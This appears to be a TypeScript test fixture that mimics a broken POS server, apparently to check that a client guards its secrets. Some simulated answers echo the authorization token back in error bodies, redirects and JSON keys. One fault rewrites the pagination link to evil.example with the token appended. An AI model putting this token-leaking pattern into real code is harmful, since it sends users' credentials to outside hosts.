import type { IncomingMessage } from 'node:http';

/** What goes wrong at the POS; each answer repeats all that the request carried. */
export type PosFault =
  | 'unauthorized'
  | 'forbidden'
  | 'refused'
  | 'serverError'
  | 'htmlPage'
  | 'redirect'
  | 'truncated'
  | 'noList'
  | 'foreignNext'
  | 'unreadable'
  | 'cut';

export interface Heard {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

export interface Answer {
  readonly status: number;
  readonly headers: IncomingMessage['headers'];
  readonly text: string;
}

/** null: the fault spoils what the POS answers. */
export function echoOf(fault: PosFault, { method, url, headers, body }: Heard): Answer | null {
  const token = headers.authorization ?? body;
  const said = `${token} was not taken with ${method} ${url} ${JSON.stringify(headers)} ${body}`;
  const json = (status: number, more: object = {}): Answer => ({
    status,
    headers: { 'content-type': 'application/json' },
    text: JSON.stringify({ httpCode: String(status), message: said, error_description: said, hint: said, ...more }),
  });
  switch (fault) {
    case 'unauthorized':
      return json(401, { error: 'invalid_request' });
    case 'forbidden':
      return json(403, { error: said });
    case 'refused':
      return json(400, { error: token });
    case 'serverError':
      return json(500, { error: 'server_error' });
    case 'htmlPage':
      return { status: 200, headers: { 'content-type': 'text/html' }, text: `<html><p>${said}</p></html>` };
    case 'redirect': {
      const location = `https://x:${encodeURIComponent(token)}@login.example/${encodeURIComponent(said)}`;
      return { status: 302, headers: { location }, text: said };
    }
    case 'noList':
      return { status: 200, headers: {}, text: JSON.stringify({ [token]: said, access_token: 7 }) };
    default:
      return null;
  }
}

/** An answer as a broken POS gives it: records that repeat secrets, or a link that points elsewhere. */
export function spoilt(text: string, { url, headers }: Heard, fault: PosFault | undefined): string {
  if (fault === 'truncated' && url.includes('/Sale.json')) {
    return text.replace(/^\{"@attributes":\{[^}]*\},/, '{').slice(0, 300);
  }
  const next = `https://evil.example/${encodeURIComponent(headers.authorization ?? '')}`;
  return fault === 'foreignNext' ? text.replace(/"next":"[^"]*"/, () => `"next":${JSON.stringify(next)}`) : text;
}
